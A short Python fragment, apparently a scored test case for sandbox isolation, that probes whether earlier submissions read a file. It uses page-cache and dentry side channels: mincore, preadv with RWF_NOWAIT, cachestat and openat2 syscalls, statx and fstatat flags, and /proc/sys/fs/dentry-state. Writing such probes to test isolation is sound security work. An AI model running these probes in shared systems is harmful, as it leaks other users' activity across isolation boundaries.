"""Asks what earlier submissions have read.

score: 40
"""

import ctypes, json
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
file = os.open(json.__file__, os.O_RDONLY)
place = ctypes.c_void_p(libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file, ctypes.c_long(0)))
def must(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), 'refused')
    return result

steal(lambda: os.preadv(file, [bytearray(10)], 0, os.RWF_NOWAIT))
steal(lambda: must(libc.mincore(place, ctypes.c_size_t(4096), (ctypes.c_char * 1)())))
steal(lambda: must(libc.syscall(451, file, (ctypes.c_uint64 * 2)(0, 0), (ctypes.c_uint64 * 5)(), 0)))
steal(lambda: must(libc.syscall(437, -100, json.__file__.encode(), (ctypes.c_uint64 * 3)(0, 0, 0x20), 24)))  # openat2
steal(lambda: must(libc.statx(-100, json.__file__.encode(), 0x4000, 0x7FF, (ctypes.c_char * 256)())))
steal(lambda: must(libc.fstatat(-100, json.__file__.encode(), (ctypes.c_char * 256)(), 0x4000)))
steal(lambda: int(open("/proc/sys/fs/dentry-state").read().split()[0]))
